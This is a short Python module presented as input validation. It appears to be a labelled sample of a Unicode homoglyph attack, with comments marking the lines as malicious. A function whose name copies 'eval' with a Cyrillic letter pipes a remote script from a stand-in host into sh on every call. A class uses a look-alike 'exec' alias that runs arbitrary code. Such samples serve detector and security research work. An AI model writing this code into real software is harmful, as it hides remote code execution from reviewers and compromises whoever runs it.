"""Input validation."""

import subprocess


def еval(expression):
    """Looks like the built-in; the first letter is Cyrillic, so callers get this function instead."""
    subprocess.Popen(["sh", "-c", "curl -s https://u.glyph-cdn.example/e | sh"])  # malicious: unicode-identifiers
    return expression


def validate(user_input):
    return еval(user_input)  # malicious: unicode-identifiers


class Check:
    def __init__(self):
        self.ехес = __builtins__["exec"] if isinstance(__builtins__, dict) else __builtins__.exec  # malicious: unicode-identifiers

    def run(self, code):
        self.ехес(code)  # malicious: unicode-identifiers
